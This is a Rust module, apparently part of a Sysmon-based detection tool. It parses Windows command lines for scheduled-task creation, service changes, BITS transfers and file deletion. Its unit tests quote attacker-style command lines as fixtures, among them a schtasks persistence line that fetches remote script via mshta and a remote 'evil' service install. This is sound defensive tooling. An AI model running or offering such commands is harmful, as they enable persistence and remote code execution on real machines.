//! What a command line asks Windows to do, for the behaviours Sysmon only shows as a process
//! start: scheduled tasks (`schtasks /create`), services (`sc`, `net`, `New-Service`), BITS
//! downloads (`bitsadmin /transfer`) and self-deletion.

/// Split a command line the way `CommandLineToArgvW` roughly does: whitespace separates, double
/// quotes group (and are removed). Good enough to find verbs and option values; the raw command
/// line is what the report shows.
pub(crate) fn split_args(command_line: &str) -> Vec<String> {
    let mut args = Vec::new();
    let mut current = String::new();
    let mut in_quotes = false;
    let mut has_token = false;
    for c in command_line.chars() {
        match c {
            '"' => {
                in_quotes = !in_quotes;
                has_token = true;
            }
            c if c.is_whitespace() && !in_quotes => {
                if has_token {
                    args.push(std::mem::take(&mut current));
                    has_token = false;
                }
            }
            c => {
                current.push(c);
                has_token = true;
            }
        }
    }
    if has_token {
        args.push(current);
    }
    args
}

/// The file name of a path-like token, lower-cased, without `.exe`.
pub(crate) fn program_name(token: &str) -> String {
    let name = token.rsplit(['\\', '/']).next().unwrap_or(token);
    let lower = name.to_ascii_lowercase();
    lower.strip_suffix(".exe").unwrap_or(&lower).to_string()
}

/// A scheduled task registration read from `schtasks /create …`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct TaskCreate {
    pub name: String,
    pub command: Option<String>,
    pub trigger: Option<String>,
    pub xml_file: Option<String>,
}

/// Find `schtasks /create` anywhere in the arguments (also behind `cmd /c`).
pub(crate) fn parse_schtasks_create(args: &[String]) -> Option<TaskCreate> {
    let start = args.iter().position(|a| program_name(a) == "schtasks")?;
    let rest = &args[start + 1..];
    if !rest.iter().any(|a| is_switch(a, "create")) {
        return None;
    }
    let name = switch_value(rest, "tn")?;
    let command = switch_value(rest, "tr");
    let schedule = switch_value(rest, "sc");
    let modifier = switch_value(rest, "mo");
    let start_time = switch_value(rest, "st");
    let trigger =
        schedule.map(|sc| describe_schedule(&sc, modifier.as_deref(), start_time.as_deref()));
    Some(TaskCreate {
        name,
        command,
        trigger,
        xml_file: switch_value(rest, "xml"),
    })
}

fn describe_schedule(schedule: &str, modifier: Option<&str>, start_time: Option<&str>) -> String {
    let unit = match schedule.to_ascii_uppercase().as_str() {
        "MINUTE" => Some("minutes"),
        "HOURLY" => Some("hours"),
        "DAILY" => Some("days"),
        "WEEKLY" => Some("weeks"),
        "MONTHLY" => Some("months"),
        _ => None,
    };
    let mut text = match (unit, schedule.to_ascii_uppercase().as_str()) {
        (Some(unit), _) => format!("every {} {unit}", modifier.unwrap_or("1")),
        (None, "ONSTART") => "at system start".to_string(),
        (None, "ONLOGON") => "at logon".to_string(),
        (None, "ONIDLE") => "when idle".to_string(),
        (None, "ONCE") => "once".to_string(),
        (None, "ONEVENT") => "on an event".to_string(),
        (None, other) => format!("schedule {other}"),
    };
    if let Some(st) = start_time {
        text.push_str(" from ");
        text.push_str(st);
    }
    text
}

/// What a command does to a service.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum ServiceAction {
    Create {
        name: String,
        image: Option<String>,
    },
    /// `sc config` that changes the binary (a hijack); other `sc config` changes are `Open`.
    Reconfigure {
        name: String,
        image: String,
    },
    Open {
        name: String,
    },
    Start {
        name: String,
    },
    Stop {
        name: String,
    },
    Delete {
        name: String,
    },
}

pub(crate) fn parse_service_action(args: &[String]) -> Option<ServiceAction> {
    if let Some(pos) = args.iter().position(|a| program_name(a) == "sc") {
        let mut rest = &args[pos + 1..];
        if rest.first().is_some_and(|a| a.starts_with(r"\\")) {
            rest = &rest[1..];
        }
        let verb = rest.first()?.to_ascii_lowercase();
        let name = rest.get(1)?.clone();
        let image = sc_option(&rest[2..], "binpath");
        return Some(match verb.as_str() {
            "create" => ServiceAction::Create { name, image },
            "config" => match image {
                Some(image) => ServiceAction::Reconfigure { name, image },
                None => ServiceAction::Open { name },
            },
            "start" => ServiceAction::Start { name },
            "stop" => ServiceAction::Stop { name },
            "delete" => ServiceAction::Delete { name },
            _ => return None,
        });
    }
    if let Some(pos) = args
        .iter()
        .position(|a| matches!(program_name(a).as_str(), "net" | "net1"))
    {
        let rest = &args[pos + 1..];
        let verb = rest.first()?.to_ascii_lowercase();
        // `net start "Display Name"`: the remaining words are the name.
        let name = rest[1..]
            .iter()
            .filter(|a| !a.starts_with('/'))
            .cloned()
            .collect::<Vec<_>>()
            .join(" ");
        if name.is_empty() {
            return None;
        }
        return match verb.as_str() {
            "start" => Some(ServiceAction::Start { name }),
            "stop" => Some(ServiceAction::Stop { name }),
            _ => None,
        };
    }
    let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
    for (cmdlet, make) in [
        ("new-service", 0u8),
        ("start-service", 1),
        ("stop-service", 2),
        ("remove-service", 3),
    ] {
        if let Some(pos) = lower.iter().position(|a| a.trim_end_matches(';') == cmdlet) {
            let rest = &args[pos + 1..];
            let name = ps_param(rest, &["-name", "-servicename"])
                .or_else(|| rest.first().filter(|a| !a.starts_with('-')).cloned())?;
            let name = name.trim_end_matches(';').to_string();
            return Some(match make {
                0 => ServiceAction::Create {
                    name,
                    image: ps_param(rest, &["-binarypathname", "-binarypath"]),
                },
                1 => ServiceAction::Start { name },
                2 => ServiceAction::Stop { name },
                _ => ServiceAction::Delete { name },
            });
        }
    }
    None
}

/// `sc` options are `name= value` (two tokens) or `name=value`.
fn sc_option(args: &[String], option: &str) -> Option<String> {
    for (i, a) in args.iter().enumerate() {
        let lower = a.to_ascii_lowercase();
        if let Some(rest) = lower.strip_prefix(option)
            && let Some(inline) = rest.strip_prefix('=')
        {
            if inline.is_empty() {
                return args.get(i + 1).cloned();
            }
            return Some(a[option.len() + 1..].to_string());
        }
    }
    None
}

fn ps_param(args: &[String], names: &[&str]) -> Option<String> {
    let pos = args
        .iter()
        .position(|a| names.iter().any(|n| a.eq_ignore_ascii_case(n)))?;
    args.get(pos + 1)
        .map(|v| v.trim_end_matches(';').to_string())
}

/// The destination of a `bitsadmin /transfer … <url> <local file>` job.
pub(crate) fn parse_bits_destination(args: &[String]) -> Option<String> {
    let pos = args.iter().position(|a| program_name(a) == "bitsadmin")?;
    let rest = &args[pos + 1..];
    if !rest
        .iter()
        .any(|a| is_switch(a, "transfer") || is_switch(a, "addfile"))
    {
        return None;
    }
    let url = rest.iter().position(|a| a.contains("://"))?;
    rest.get(url + 1).map(|d| collapse_doubled_backslashes(d))
}

/// `C:\\Users\\x` (as typed in batch files) → `C:\Users\x`; a leading UNC `\\` is kept.
pub(crate) fn collapse_doubled_backslashes(path: &str) -> String {
    let (head, tail) = if path.starts_with(r"\\") && !path.starts_with(r"\\\") {
        (r"\\", &path[2..])
    } else {
        ("", path)
    };
    let mut out = String::with_capacity(path.len());
    out.push_str(head);
    let mut previous_backslash = false;
    for c in tail.chars() {
        if c == '\\' && previous_backslash {
            continue;
        }
        previous_backslash = c == '\\';
        out.push(c);
    }
    out
}

/// Paths a `del`/`erase`/`Remove-Item` command deletes.
pub(crate) fn parse_deleted_paths(args: &[String]) -> Vec<String> {
    let Some(pos) = args.iter().position(|a| {
        matches!(
            a.to_ascii_lowercase().as_str(),
            "del" | "erase" | "remove-item" | "rm" | "ri"
        )
    }) else {
        return Vec::new();
    };
    args[pos + 1..]
        .iter()
        .filter(|a| !a.starts_with('/') && !a.starts_with('-') && !a.contains('>'))
        .cloned()
        .collect()
}

fn is_switch(arg: &str, name: &str) -> bool {
    let body = arg.strip_prefix('/').or_else(|| arg.strip_prefix('-'));
    body.is_some_and(|b| b.eq_ignore_ascii_case(name))
}

fn switch_value(args: &[String], name: &str) -> Option<String> {
    let pos = args.iter().position(|a| is_switch(a, name))?;
    args.get(pos + 1).cloned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splits_quoted_arguments() {
        assert_eq!(
            split_args(
                r#""C:\Windows\System32\schtasks.exe" /Create /TN X /TR "mshta.exe https://a/b" /F "#
            ),
            vec![
                r"C:\Windows\System32\schtasks.exe",
                "/Create",
                "/TN",
                "X",
                "/TR",
                "mshta.exe https://a/b",
                "/F"
            ]
        );
        assert!(split_args("   ").is_empty());
        assert_eq!(split_args(r#"a "" b"#), vec!["a", "", "b"]);
    }

    #[test]
    fn schtasks_create() {
        let t = parse_schtasks_create(&split_args(
            r#""C:\Windows\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://hotelesms.com/Injection.txt" /F "#,
        ))
        .unwrap();
        assert_eq!(t.name, "MSOFFICE_");
        assert_eq!(
            t.command.as_deref(),
            Some("mshta.exe https://hotelesms.com/Injection.txt")
        );
        assert_eq!(t.trigger.as_deref(), Some("every 60 minutes"));
        let x = parse_schtasks_create(&split_args(
            r#""C:\Windows\System32\cmd.exe"  /C schtasks /Create /f /XML C:\Users\IEUser\AppData\Local\Temp\sduchxll.tmp /TN DataUsageHandlers"#,
        ))
        .unwrap();
        assert_eq!(x.name, "DataUsageHandlers");
        assert_eq!(
            x.xml_file.as_deref(),
            Some(r"C:\Users\IEUser\AppData\Local\Temp\sduchxll.tmp")
        );
        assert!(parse_schtasks_create(&split_args("schtasks /query /tn X")).is_none());
        assert!(parse_schtasks_create(&split_args("schtasks /create")).is_none());
    }

    #[test]
    fn service_commands() {
        assert_eq!(
            parse_service_action(&split_args(
                r#"sc.exe \\host create evil binPath= "C:\x\evil.exe" start= auto"#
            )),
            Some(ServiceAction::Create {
                name: "evil".into(),
                image: Some(r"C:\x\evil.exe".into())
            })
        );
        assert_eq!(
            parse_service_action(&split_args("sc config BITS type= own")),
            Some(ServiceAction::Open {
                name: "BITS".into()
            })
        );
        assert_eq!(
            parse_service_action(&split_args(r"sc config x binpath=C:\a.exe")),
            Some(ServiceAction::Reconfigure {
                name: "x".into(),
                image: r"C:\a.exe".into()
            })
        );
        assert_eq!(
            parse_service_action(&split_args(r"C:\WINDOWS\system32\net1 start BITS")),
            Some(ServiceAction::Start {
                name: "BITS".into()
            })
        );
        assert_eq!(
            parse_service_action(&split_args("net stop BITS /y")),
            Some(ServiceAction::Stop {
                name: "BITS".into()
            })
        );
        assert_eq!(
            parse_service_action(&split_args(
                r#"powershell -c New-Service -Name "Upd" -BinaryPathName "C:\p\u.exe""#
            )),
            Some(ServiceAction::Create {
                name: "Upd".into(),
                image: Some(r"C:\p\u.exe".into())
            })
        );
        assert_eq!(parse_service_action(&split_args("net user x /add")), None);
        assert_eq!(parse_service_action(&split_args("sc")), None);
    }

    #[test]
    fn bits_and_delete() {
        assert_eq!(
            parse_bits_destination(&split_args(
                r"bitsadmin  /transfer myDownloadJob /download /priority normal http://www.example.com/package.zip C:\\Users\\buddy\\testfile2.txt"
            ))
            .as_deref(),
            Some(r"C:\Users\buddy\testfile2.txt")
        );
        assert_eq!(
            parse_deleted_paths(&split_args(
                r#""C:\Windows\System32\cmd.exe" /c del /q "C:\Users\IEUser\Downloads\Flash_update.exe" "#
            )),
            vec![r"C:\Users\IEUser\Downloads\Flash_update.exe"]
        );
    }
}
